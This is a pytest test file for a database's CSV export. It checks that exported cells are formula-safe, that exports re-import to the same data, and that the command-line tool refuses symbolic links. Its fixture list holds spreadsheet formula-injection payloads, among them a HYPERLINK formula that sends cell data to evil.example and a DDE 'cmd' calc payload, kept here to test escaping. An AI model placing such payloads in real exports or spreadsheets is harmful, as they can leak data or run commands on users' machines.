"""The export: every text cell formula-safe (partner lists included), the files imported back give the same
database, and `cli.py export --out` never writes through a symbolic link."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import zipfile
from datetime import date
from pathlib import Path

import pandas as pd
import pytest

import exports
from contract import FORMULA_STARTS, formula_safe, from_formula_safe
from store import database, exporter, notes
from store.importer import import_files
from tests.conftest import ROOT, fetch, own_copy

# Ids and texts a spreadsheet would run as formulas, and texts that already start with apostrophes.
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "'=already quoted",
    "''+twice quoted",
]


def rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def csv_file(folder: Path, name: str, header: list[str], body: list[list[str]]) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(header)
    writer.writerows([[formula_safe(c) for c in row] for row in body])  # as a spreadsheet would save them
    path = folder / name
    path.write_text(out.getvalue(), encoding="utf-8")
    return path


@pytest.fixture(scope="module")
def hostile(tmp_path_factory) -> Path:
    """Partners whose ids and names start like formulas, engagements listing them first, a publication title and a
    note that start like formulas too; built once for the module, and never written to (hostile_db is a copy)."""
    tmp_path = tmp_path_factory.mktemp("hostile")
    db = tmp_path / "hostile.duckdb"
    ids = [*HOSTILE, "P1"]
    partners = csv_file(
        tmp_path / "in",
        "partners.csv",
        ["partner_id", "name", "sector"],
        [[pid, f"{pid} Ltd" if pid != "P1" else "=1+1", "pharma"] for pid in ids],
    )
    engagements = csv_file(
        tmp_path / "in",
        "engagements.csv",
        ["engagement_id", "date", "type", "partner_ids"],
        [[f"E{i}", "2024-03-01", "webinar", f"{pid};P1"] for i, pid in enumerate(HOSTILE)],
    )
    publications = csv_file(
        tmp_path / "in",
        "publications.csv",
        ["publication_id", "title", "published_date", "partner_ids"],
        [["PUB1", "-Fluoxetine in rare disease", "2024-05-01", ";".join(sorted(ids))]],
    )
    result = import_files(db, [partners, engagements, publications])
    assert result.ok, result.problems
    notes.add_note(db, "engagement_count", date(2024, 1, 1), date(2024, 12, 31), "@board: see A1")
    assert sorted(p.name for p in db.parent.iterdir()) == ["hostile.duckdb", "in"]  # the database is its one file
    return db


@pytest.fixture
def hostile_db(hostile, tmp_path) -> Path:
    """The hostile database, this test's own copy (its mode kept)."""
    return own_copy(hostile, tmp_path)


def test_every_exported_text_cell_partner_lists_included_is_formula_safe(hostile_db):
    written = exporter.files(hostile_db)
    cells = [(name, cell) for name, data in written.items() for row in rows(data.decode()) for cell in row]
    assert [(n, c) for n, c in cells if c.startswith(FORMULA_STARTS)] == []
    engagements = rows(written["engagements.csv"].decode())
    lists = {r[0]: r[engagements[0].index("partner_ids")] for r in engagements[1:]}
    assert lists["E0"] == "'" + HOSTILE[0] + ";P1"  # the issue's =HYPERLINK(...) went out as it was
    assert lists["E4"] == "'" + "'=already quoted;P1"
    assert ",'@board: see A1," in written["notes.csv"].decode()


def test_a_text_starting_with_a_tab_or_a_carriage_return_is_exported_formula_safe(hostile_db):
    with database.write(hostile_db, rows=2) as con:  # no import stores one (a tab is refused): the dashboard might
        con.execute(
            "INSERT INTO events (event_id, date, label, kind) VALUES ('V1', '2024-02-01', ?, 'event')", ["\t=1"]
        )
        con.execute("UPDATE publications SET title = ? WHERE publication_id = 'PUB1'", ["\r=cmd"])
    written = exporter.files(hostile_db)
    assert "V1,2024-02-01,'\t=1,event" in written["events.csv"].decode()
    assert "PUB1,'\r=cmd,2024-05-01" in written["publications.csv"].decode()


def test_the_hostile_export_imported_into_an_empty_database_gives_the_same_data(hostile_db, tmp_path):
    out = tmp_path / "out"
    exporter.export(hostile_db, out)
    copy = tmp_path / "copy.duckdb"
    result = import_files(copy, sorted(out.iterdir()))
    assert result.ok, result.problems
    assert exporter.files(copy) == exporter.files(hostile_db)
    assert fetch(copy, "SELECT partner_id FROM engagement_partners WHERE engagement_id = 'E0' ORDER BY 1") == [
        (HOSTILE[0],),
        ("P1",),
    ]
    assert sorted(r[0] for r in fetch(copy, "SELECT partner_id FROM partners")) == sorted([*HOSTILE, "P1"])
    assert fetch(copy, "SELECT title FROM publications") == [("-Fluoxetine in rare disease",)]
    assert fetch(copy, "SELECT name FROM partners WHERE partner_id = 'P1'") == [("=1+1",)]


@pytest.mark.parametrize("text", [*HOSTILE, "\t=x", "\r=x", "plain", "'plain", "'", "", "it's =fine"])
def test_formula_safe_text_comes_back_exactly(text):
    assert from_formula_safe(formula_safe(text)) == text
    assert not str(formula_safe(text)).startswith(FORMULA_STARTS)


def test_a_pages_csv_escapes_every_cell_that_is_not_a_number_lists_and_categories_included():
    frame = pd.DataFrame(
        {
            "partner_ids": [["=HYPERLINK(1)", "P1"], "=HYPERLINK(2);P1"],
            "sector": pd.Categorical(["+pharma", "academic"]),
            "title": ["-minus", "\tTab"],
            "count": [-5, 3],
            "@header": ["x", "y"],
        }
    )
    written = rows(exports.csv_bytes(frame).decode("utf-8-sig"))
    assert [c for row in written for c in row if c.startswith(FORMULA_STARTS)] == ["-5"]  # a number stays one
    assert written[0] == ["partner_ids", "sector", "title", "count", "'@header"]
    assert written[2][0] == "'=HYPERLINK(2);P1"
    assert written[1][1:3] == ["'+pharma", "'-minus"]


def test_the_backup_zip_is_formula_safe_too(hostile_db):
    with zipfile.ZipFile(io.BytesIO(exporter.export_zip(hostile_db))) as archive:
        cells = [c for n in archive.namelist() for row in rows(archive.read(n).decode()) for c in row]
    assert "'" + HOSTILE[0] + ";P1" in cells
    assert cells and not [c for c in cells if c.startswith(FORMULA_STARTS)]


def cli(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, str(ROOT / "cli.py"), *args], capture_output=True, text=True, cwd=ROOT)


def test_export_refuses_a_link_planted_in_its_folder_and_writes_nothing(hostile_db, tmp_path):
    out, victim = tmp_path / "out", tmp_path / "victim.txt"
    out.mkdir()
    victim.write_text("not yours")
    (out / "partners.csv").symlink_to(victim)
    done = cli("export", "--db", str(hostile_db), "--out", str(out))
    assert done.returncode == 2
    assert done.stderr == (
        f"cli.py export: {out}/partners.csv is a symbolic link; nothing is written through one: remove it, or give "
        "another folder\n"
    )
    assert victim.read_text() == "not yours"
    assert sorted(p.name for p in out.iterdir()) == ["partners.csv"]  # nothing else written either


def test_export_refuses_a_folder_that_is_a_link_naming_the_folder_to_give(hostile_db, tmp_path):
    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    done = cli("export", "--db", str(hostile_db), "--out", str(tmp_path / "link"))
    assert done.returncode == 2
    assert f"{tmp_path / 'link'} is a symbolic link (to {real}); give the folder itself" in done.stderr
    assert list(real.iterdir()) == []
    assert cli("export", "--db", str(hostile_db), "--out", str(real)).returncode == 0


@pytest.mark.parametrize("out", ["a-file", "a-file/below"])
def test_export_into_an_existing_file_is_a_sentence_and_exit_2(hostile_db, tmp_path, out):
    (tmp_path / "a-file").write_text("kept")
    done = cli("export", "--db", str(hostile_db), "--out", str(tmp_path / out))
    assert done.returncode == 2
    assert "unexpected error" not in done.stderr and "Traceback" not in done.stderr
    assert done.stderr.startswith("cli.py export: ") and str(tmp_path / out) in done.stderr
    assert (tmp_path / "a-file").read_text() == "kept"


def test_export_replaces_its_own_earlier_files_whole_never_writing_into_them(hostile_db, tmp_path):
    out = tmp_path / "out"
    assert cli("export", "--db", str(hostile_db), "--out", str(out)).returncode == 0
    (out / "partners.csv").write_text("stale")
    os.link(out / "partners.csv", tmp_path / "hard-link-elsewhere")
    assert cli("export", "--db", str(hostile_db), "--out", str(out)).returncode == 0
    assert (out / "partners.csv").read_bytes() == exporter.files(hostile_db)["partners.csv"]
    assert (tmp_path / "hard-link-elsewhere").read_text() == "stale"  # a new file was renamed into place
    assert not [p for p in out.iterdir() if p.name.startswith(".")]  # no temporary file left
